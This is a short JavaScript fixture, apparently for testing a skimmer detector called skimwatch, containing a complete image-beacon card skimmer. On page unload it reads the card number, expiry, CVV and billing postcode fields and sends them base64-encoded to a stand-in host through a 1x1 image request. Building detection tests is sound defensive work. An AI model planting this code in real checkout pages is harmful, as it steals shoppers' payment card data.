// Synthetic image-beacon skimmer for skimwatch tests.
window.addEventListener("beforeunload", function () {
  var v = [];
  ["#ccnum", "#cc-exp", "#cvv", "#billing_postcode"].forEach(function (s) {
    var e = document.querySelector(s);
    v.push(e ? e.value : "");
  });
  var i = new Image();
  i.src = "https://img-cdn-pixel.example/1x1.gif?t=" + Date.now() + "&d=" + btoa(v.join("|"));
});
